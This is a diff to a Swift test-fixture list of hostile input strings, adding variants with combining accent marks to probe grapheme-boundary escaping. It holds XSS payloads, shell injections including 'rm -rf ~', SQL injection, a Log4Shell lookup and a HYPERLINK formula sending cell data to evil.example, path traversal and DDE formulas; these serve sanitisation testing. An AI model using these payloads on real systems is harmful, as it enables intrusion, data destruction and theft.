@@ -20,6 +20,8 @@ package enum HostileTexts {
     "<!--<script>", "]]><script>alert(1)</script>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "<b>{{frame.formToken}}{{{view}}}</b>",
+    // Marks that share a character, as Swift counts them, with what is before or behind them.
+    "\u{600}<form method=post action=/-/console/keys/alice/revoke>\u{301}", "<\u{301}input name=limit>\u{301}",
   ]
 
   /// Ends of a quoted attribute, and attributes after them.
@@ -31,6 +33,7 @@ package enum HostileTexts {
     "` onclick=`alert(1)`",
     " onpointerenter=alert(1) x=",
     #"" style="background:url(//evil.example)"#,
+    "x\"\u{301} autofocus onfocus=alert(1) y=", "x'\u{301} onclick=alert(1) y=",
   ]
 
   /// What only an address, a template or a script would run.
@@ -43,6 +46,7 @@ package enum HostileTexts {
     "${jndi:ldap://evil.example/a}",
     "$(touch /tmp/tollgate-hostile)", "`touch /tmp/tollgate-hostile`", "; rm -rf ~ #",
     "'; DROP TABLE generations; --", "\" OR 1=1 --", "* NEAR(\"x\") OR",
+    "a'\u{301};touch /tmp/tollgate-hostile;'\u{301}b", "a\"\u{301}",
     "../../../../etc/passwd", "%2e%2e%2f%00",
   ]
 
@@ -56,6 +60,7 @@ package enum HostileTexts {
   package static let formulas = [
     "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
     "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\",=1+1,\"",
+    "=\u{301}1+1", "x\"\u{301},=1+1",
   ]
 
   /// Further lines: of a log, of a head, of a stream of events.
